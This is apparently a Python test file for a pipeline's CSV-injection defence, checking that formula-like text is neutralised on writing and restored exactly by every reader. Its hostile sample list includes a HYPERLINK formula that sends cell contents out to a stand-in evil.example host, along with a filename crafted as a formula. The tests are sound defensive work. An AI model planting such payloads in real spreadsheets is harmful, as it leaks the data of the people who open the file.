"""CSV injection defence: no text cell reaches a spreadsheet as a formula, numbers stay numbers, and every
reader of the CSVs (loader, Parquet, wide table, audit) gets the text back exactly."""

from __future__ import annotations

import csv
import shutil

import pandas as pd
import pyarrow.parquet as pq
from hypothesis import given, settings
from hypothesis import strategies as st

from pipeline.csvsafe import neutralise, restore
from pipeline.loader import load
from pipeline.run import RunOptions, run_batch
from pipeline.writers import csv_writers
from schemas.records import CellRecord, DocumentRecord
from tests.conftest import CORPUS

TRIGGERS = tuple("=+-@\t\r")
HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+2", "-2+3", "@SUM(A1:A9)", "\tTAB", "\rCR",
           "'=already quoted", "''=two quotes", "'plain apostrophe", 'a "quoted" word', "line\r\nbreak", "nul\x00byte",
           "-", "-3", "+4.5", "-2%", "1e-05", "普通文字", "", "x" * 300_000]


def _formula_like(cell: str) -> bool:
    return cell.startswith(TRIGGERS) and neutralise(cell) != cell


@settings(max_examples=300, deadline=None)
@given(st.text())
def test_neutralise_round_trips_any_text(text):
    written = neutralise(text)
    assert restore(written) == text
    assert not _formula_like(written) or written == text
    assert not (written[:1] in TRIGGERS and neutralise(written) != written)


def test_numbers_are_not_prefixed_but_formulas_are():
    assert neutralise("-3") == "-3" and neutralise("+4.5") == "+4.5" and neutralise("-2%") == "-2%"
    assert neutralise("-2+3") == "'-2+3" and neutralise("=1") == "'=1" and neutralise("@x") == "'@x"
    assert neutralise("\t1") == "'\t1" and neutralise("'=x") == "''=x" and neutralise("'x") == "'x"


def _hostile_output(out):
    """A real run, then documents and cells whose text is every hostile string, as if reports held them."""
    run_batch([str(CORPUS / "enhe-2022.txt")], out, RunOptions(jobs=0, progress=False))
    good = next(csv.DictReader(open(out / "documents.csv", encoding="utf-8-sig", newline="")))  # noqa: SIM115
    documents = [DocumentRecord(doc_id=f"d{i:04d}", source=text or "s", sha256="0" * 64, title=text, issuer=text,
                                status="ok", error=text, pipeline_version=good["pipeline_version"])
                 for i, text in enumerate(HOSTILE)]
    cells = [CellRecord(doc_id=f"d{i:04d}", table="t3_requests", row_key="new_requests", col_key="total",
                        value=-3 if i % 2 else 7, raw=text, blank=False, row_label=text, page=None)
             for i, text in enumerate(HOSTILE)]
    with csv_writers(out) as writers:
        writers["documents"].write(documents)
        writers["table_cells"].write(cells)
        writers["figures"].write([])
        writers["flags"].write([])
    return documents, cells


def test_hostile_text_leaves_no_formula_and_every_reader_gets_it_back(tmp_path):
    from pipeline.audit import write_audit
    from pipeline.extras import write_extras

    out = tmp_path / "out"
    documents, cells = _hostile_output(out)
    write_extras(out)  # the wide table, Parquet and datapackage.json are written despite the text
    write_audit(out)
    for name in ("documents.csv", "table_cells.csv", "reports_wide.csv"):
        with open(out / name, encoding="utf-8-sig", newline="") as fh:
            for row in csv.reader(fh):
                assert not any(_formula_like(cell) for cell in row), (name, row[:6])
    with open(out / "table_cells.csv", encoding="utf-8-sig", newline="") as fh:
        values = [row["value"] for row in csv.DictReader(fh)]
    assert "-3" in values  # a negative number is a number, not neutralised
    loaded = load(out)
    assert loaded.documents["title"].fillna("").tolist() == [t.strip() for t in HOSTILE]
    assert loaded.documents["source"].tolist() == [t.strip() or "s" for t in HOSTILE]
    assert loaded.cells["row_label"].fillna("").tolist() == [t.strip() for t in HOSTILE]
    assert loaded.cells["value"].tolist() == [c.value for c in cells]
    assert loaded.wide["title"].fillna("").tolist() == [t.strip() for t in HOSTILE]
    parquet = pq.read_table(out / "documents.parquet").to_pandas()
    assert parquet["issuer"].fillna("").tolist() == [t.strip() for t in HOSTILE]  # Parquet keeps the raw text
    raw = pd.read_csv(out / "documents.csv", dtype=str, keep_default_na=False, encoding="utf-8-sig")
    assert raw["title"].map(restore).tolist() == HOSTILE  # exact, through pandas' own parser


def test_a_file_named_like_a_formula_reaches_no_csv_as_one(tmp_path, monkeypatch):
    folder = tmp_path / "in"
    folder.mkdir()
    name = '=HYPERLINK("evil.example","x").txt'
    shutil.copy(CORPUS / "enhe-2022.txt", folder / name)
    monkeypatch.chdir(folder)
    run_batch([name], tmp_path / "out", RunOptions(jobs=0, progress=False))
    with open(tmp_path / "out" / "documents.csv", encoding="utf-8-sig", newline="") as fh:
        assert next(csv.DictReader(fh))["source"] == "'" + name
    assert load(tmp_path / "out").documents["source"].tolist() == [name]
